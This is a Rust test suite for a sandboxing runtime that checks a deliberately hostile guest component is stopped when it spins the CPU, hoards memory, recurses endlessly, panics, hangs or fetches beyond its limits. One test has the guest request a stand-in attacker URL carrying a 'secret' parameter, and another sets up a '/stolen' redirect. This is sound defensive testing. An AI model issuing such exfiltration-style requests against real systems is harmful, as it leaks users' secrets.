//! A component that misbehaves is stopped, with a sentence that says what it did, and nothing else suffers.

#![expect(clippy::unwrap_used, reason = "a test whose own server does not start has failed")]

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use axum::Router;
use axum::response::Redirect;
use axum::routing::get;
use sluice::failure::Failure;
use sluice::origin::Origin;
use sluice::pipeline::port::{MAX_BYTES, MAX_RECORDS, Page, ReadRequest, Source};
use sluice::runtime::{Limits, OpenSource};
use sluice_tests::solo::{Given, side};

fn act(name: &str) -> String {
    serde_json::json!({ "act": name }).to_string()
}

fn given() -> Given {
    let limits = Limits { cpu: Duration::from_millis(300), ..Limits::default() };
    Given { limits, ..Given::default() }
}

async fn open(name: &str, given: Given) -> OpenSource {
    side("hostile_guest", &act(name), given).open_source().await.expect("opening does nothing yet")
}

async fn read(source: &OpenSource) -> Result<Page, Failure> {
    let request = ReadRequest {
        stream: "things".into(),
        partition: "only".into(),
        cursor: None,
        max_records: MAX_RECORDS,
        max_bytes: MAX_BYTES,
        selection: None,
    };
    source.read(request).await
}

async fn misdeed(name: &str) -> String {
    let failure = read(&open(name, given()).await).await.expect_err("the misdeed has to fail");
    assert!(matches!(failure, Failure::Fatal(_)), "{failure:?}");
    failure.to_string()
}

#[tokio::test(flavor = "multi_thread")]
async fn spinning_is_stopped_whether_or_not_it_calls_the_host() {
    for name in ["spin", "spin_without_calls"] {
        let said = misdeed(name).await;
        assert!(said.contains("more processor time"), "{said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn spinning_never_holds_the_thread_of_others() {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let spinner = std::thread::spawn(move || {
        runtime.block_on(async {
            let source = open("spin_without_calls", given()).await;
            let other = async {
                for _ in 0..3 {
                    tokio::task::yield_now().await;
                }
                "ran meanwhile"
            };
            let (failed, meanwhile) = tokio::join!(read(&source), other);
            assert!(failed.is_err());
            meanwhile
        })
    });
    assert_eq!(spinner.join().unwrap(), "ran meanwhile");
}

#[tokio::test(flavor = "multi_thread")]
async fn hoarding_memory_is_stopped() {
    let said = misdeed("memory").await;
    assert!(said.contains("limits.memory_bytes"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn endless_recursion_is_stopped() {
    let said = misdeed("recursion").await;
    assert!(said.contains("nested too deeply") || said.contains("out of bounds"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_panic_is_told_with_its_message() {
    let said = misdeed("panic").await;
    assert!(said.contains("the hostile guest was told to panic"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_reply_is_stopped_at_the_boundary() {
    let said = misdeed("huge_page").await;
    assert!(said.contains("crashed"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_dead_instance_fails_later_calls_with_the_same_cause() {
    let source = open("panic", given()).await;
    let first = read(&source).await.unwrap_err();
    let second = read(&source).await.unwrap_err();
    assert_eq!(first.to_string(), second.to_string());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_death_of_one_instance_leaves_others_alone() {
    let good = open("ok", given()).await;
    misdeed("memory").await;
    assert!(read(&good).await.is_ok());
}

/// Accepts connections and never answers.
async fn silent() -> Origin {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = Origin::parse(&format!("http://{}", listener.local_addr().unwrap())).unwrap();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((connection, _)) = listener.accept().await {
            held.push(connection);
        }
    });
    origin
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_that_does_not_end_is_ended_at_its_deadline() {
    let origin = silent().await;
    let limits = Limits { call: Duration::from_millis(200), ..Limits::default() };
    let given = Given { origins: vec![origin.clone()], limits, ..Given::default() };
    let source = open(&format!("fetch|{origin}/"), given).await;
    for _ in 0..2 {
        let said = read(&source).await.unwrap_err().to_string();
        assert!(said.contains("limits.call_timeout_ms"), "{said}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_misdeed_while_opening_fails_the_opening() {
    let config = serde_json::json!({ "act": "panic", "at_once": true }).to_string();
    let failure = side("hostile_guest", &config, given()).open_source().await.unwrap_err();
    assert!(failure.to_string().contains("told to panic"), "{failure}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_origin_that_is_not_granted_is_named() {
    let said = misdeed("fetch|https://evil.example.test/steal?secret=1").await;
    assert!(said.contains("Denied") && said.contains("https://evil.example.test"), "{said}");
    assert!(!said.contains("secret=1"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn headers_of_the_host_and_foreign_credentials_are_refused() {
    let given = Given { origins: vec![Origin::parse("https://api.example.test").unwrap()], ..given() };
    let source = open("forbidden_header|https://api.example.test/", given).await;
    let said = read(&source).await.unwrap_err().to_string();
    assert!(said.contains("Malformed") && said.contains("Authorization"), "{said}");
}

/// Serves a page of `bytes` bytes at `/big` and at `/away` a redirect to `/stolen`, whose visits are counted.
async fn server(bytes: usize) -> (Origin, Arc<AtomicUsize>) {
    let visits = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&visits);
    let routes = Router::new()
        .route("/big", get(move || async move { vec![b'x'; bytes] }))
        .route("/away", get(|| async { Redirect::temporary("/stolen") }))
        .route("/stolen", get(move || async move { counted.fetch_add(1, Ordering::Relaxed).to_string() }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = Origin::parse(&format!("http://{}", listener.local_addr().unwrap())).unwrap();
    tokio::spawn(async move { axum::serve(listener, routes).await });
    (origin, visits)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_huge_body_is_not_taken_in() {
    let (origin, _) = server(9 << 20).await;
    let given = Given { origins: vec![origin.clone()], ..given() };
    let source = open(&format!("fetch|{origin}/big"), given).await;
    let said = read(&source).await.unwrap_err().to_string();
    assert!(said.contains("TooLarge") && said.contains("limits.response_bytes"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_redirect_is_handed_over_and_not_followed() {
    let (origin, visits) = server(0).await;
    let config = serde_json::json!({ "act": format!("fetch|{origin}/away") }).to_string();
    let given = Given { origins: vec![origin], ..given() };
    let side = side("hostile_guest", &config, given);
    let source = side.open_source().await.unwrap();
    assert!(read(&source).await.is_ok());
    assert_eq!(visits.load(Ordering::Relaxed), 0, "the redirect was followed");
}
